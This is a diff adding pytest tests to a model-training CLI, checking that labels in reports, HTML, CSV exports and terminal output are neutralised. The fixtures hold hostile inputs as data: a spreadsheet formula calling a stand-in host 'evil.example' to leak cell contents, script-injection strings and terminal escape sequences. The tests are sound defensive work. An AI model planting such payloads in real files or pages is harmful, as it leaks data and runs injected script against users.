@@ -4,12 +4,17 @@ escapes or maths, files that are not UTF-8, seeds out of range, names that break
 that accepts connections but is not Ray. Each ends in one line (exit 2, or the documented code), writes
 nothing outside the folder the user chose and loses nothing."""
 
+import csv
+import io
 import json
 import sqlite3
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
 
+from conftest import Cli, rnn_study_text
 from statetrack.cli import main
 from test_database_checks import copy, made  # noqa: F401 (fixtures: a database of three runs)
 
@@ -93,3 +98,137 @@ def test_no_report_file_is_written_through_a_link_in_the_folder(made, tmp_path, 
     assert main(["report", str(study), "--db", str(db), "--out", str(chosen), "--html"]) == 0
     assert (tmp_path / "real" / "s.md").is_file() and (tmp_path / "real" / "s" / "thumbnail.png").is_file()
     assert _tree(victim) == before
+
+
+# -- labels and names are text everywhere ------------------------------------------------------------------
+NASTY = ["$x^$", '=HYPERLINK("http://evil.example/?"&A1)', "<img src=x onerror=alert(1)>"]
+NOTES = "<script>alert(1)</script> and <svg onload=alert(2)>; a <= b stays"
+
+
+def _nasty_study(folder: Path) -> Path:
+    models = ", ".join(
+        f"{{label: {json.dumps(label)}, model: {{layers: rnn, d_model: 2, d_state: 4}}, train_lengths: [4, 4]}}"
+        for label in NASTY
+    )
+    text = rnn_study_text(seeds=1, steps=4).replace(
+        "models: [{label: RNN, model: {layers: rnn, d_model: 2, d_state: 4}, train_lengths: [4, 4]}]",
+        f"models: [{models}]\nnotes: {json.dumps(NOTES)}",
+    )
+    path = folder / "nasty.yaml"
+    path.write_text(text)
+    return path
+
+
+def _formula_cells(text: str) -> list[str]:
+    cells = [c for row in csv.reader(io.StringIO(text)) for c in row]
+    return [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r") or (c[:1] == "-" and not _number(c))]
+
+
+def _number(c: str) -> bool:
+    try:
+        float(c)
+        return True
+    except ValueError:
+        return c == "-"
+
+
+@pytest.fixture(scope="module")
+def nasty(tmp_path_factory):
+    d = tmp_path_factory.mktemp("nasty")
+    study, db = _nasty_study(d), d / "r.db"
+    assert main(["sweep", str(study), "--db", str(db), "--workers", "1"]) == 0
+    return study, db
+
+
+def test_labels_are_plain_text_in_plots_reports_and_exports(nasty, tmp_path, capsys):
+    study, db = nasty
+    out = tmp_path / "out"
+    assert main(["report", str(study), "--db", str(db), "--out", str(out), "--html"]) == 0
+    capsys.readouterr()
+    pngs = sorted((out / "s").glob("*.png"))
+    assert pngs and all(p.stat().st_size > 1000 for p in pngs)
+    md = (out / "s.md").read_text()
+    for raw in ("<script", "<img", "<svg"):
+        assert raw not in md
+    assert "&lt;script>" in md and "a <= b stays" in md and "$x^$" in md
+    html = (out / "s.html").read_text()
+    assert "<script>alert" not in html and "<img src=x" not in html
+    assert _formula_cells((out / "s.csv").read_text()) == []
+    assert "'=HYPERLINK" in (out / "s.csv").read_text()
+    assert main(["runs", "export", "--db", str(db)]) == 0
+    exported = capsys.readouterr().out
+    assert _formula_cells(exported) == [] and "'=HYPERLINK" in exported
+    plot = tmp_path / "p.png"
+    assert main(["plot", "$x^$", "--db", str(db), "--out", str(plot)]) == 0
+    assert plot.stat().st_size > 1000
+
+
+@pytest.mark.parametrize(
+    "label", ["\x1b]0;pwned\x07title", "\x1b[2Jclear", "\x1b[31mred", "\u202eevil", "bell\x07\x9b2J"]
+)
+def test_terminal_escapes_in_labels_never_reach_the_terminal(copy, capsys, label):  # noqa: F811
+    db, _ = copy
+    con = sqlite3.connect(db)
+    con.execute("UPDATE runs SET label=? WHERE id=1", (label,))
+    con.commit()
+    con.close()
+    for argv in (["runs", "--db", str(db)], ["runs", "show", "1", "--db", str(db)]):
+        assert main(argv) == 0
+        out = capsys.readouterr()
+        for bad in ("\x1b", "\x07", "\u202e", "\x9b"):
+            assert bad not in out.out + out.err
+        assert "\\x1b" in out.out or "\\u202e" in out.out or "\\x07" in out.out
+    assert "\x1b" not in _one_line(capsys, ["runs", "show", label + "x", "--db", str(db)])
+    assert main(["runs", "show", label, "--db", str(db), "--json"]) == 0  # --json keeps the value, escaped
+    assert json.loads(capsys.readouterr().out)["label"] == label
+
+
+# -- no traceback ----------------------------------------------------------------------------------------
+def test_a_file_that_is_not_utf8_is_one_line(tmp_path, capsys):
+    bad = tmp_path / "b.yaml"
+    bad.write_bytes(rnn_study_text().encode().replace(b"name: s", b"name: s\xff", 1))
+    db = tmp_path / "r.db"
+    for argv in (
+        ["sweep", str(bad), "--db", str(db)],
+        ["reproduce", str(bad), "--db", str(db), "--out", str(tmp_path / "out")],
+        ["report", str(bad), "--db", str(db), "--out", ""],
+        ["train", "--config", str(bad), "--db", str(db)],
+    ):
+        _one_line(capsys, argv, "is not UTF-8 text: byte 0xff", "line 1", repr(str(bad)))
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.yaml"]
+
+
+@pytest.mark.parametrize("flag", ["--seed", "--eval-seed"])
+@pytest.mark.parametrize("value", ["999999999999999999999999", "-1", "9223372036854775808"])
+def test_a_seed_out_of_range_is_refused_before_the_database(tmp_path, capsys, flag, value):
+    db = tmp_path / "r.db"
+    argv = ["train", "--layers", "rnn", "--steps", "2", "--test-lengths", "8", flag, value, "--db", str(db)]
+    _one_line(capsys, argv, "seed", value)
+    assert not db.exists()
+    _one_line(capsys, ["sample", "parity", "--seed", value], "bad seed", "9,223,372,036,854,775,807")
+
+
+def test_a_corpus_cache_that_cannot_be_written_is_one_line(tmp_path, capsys, monkeypatch):
+    (tmp_path / "afile").write_text("in the way")
+    monkeypatch.setenv("STATETRACK_CACHE", str(tmp_path / "afile"))
+    _one_line(capsys, ["sample", "lm:stdlib"], "cannot write the corpus cache", "STATETRACK_CACHE")
+
+
+def test_running_out_of_memory_while_modules_load_is_one_line(tmp_path):
+    """Under ``ulimit -v`` of 450 MB, torch's libraries cannot be mapped: one line, exit 2."""
+    import resource
+
+    def limit():
+        resource.setrlimit(resource.RLIMIT_AS, (450 << 20, 450 << 20))
+
+    p = subprocess.run(
+        [sys.executable, "-m", "statetrack.cli", "runs", "--db", str(tmp_path / "r.db")],
+        env=Cli.env,
+        preexec_fn=limit,
+        capture_output=True,
+        text=True,
+        timeout=60,
+    )
+    assert p.returncode == 2, p.stderr
+    assert "Traceback" not in p.stderr and len(p.stderr.splitlines()) == 1, p.stderr
+    assert "ran out of memory" in p.stderr
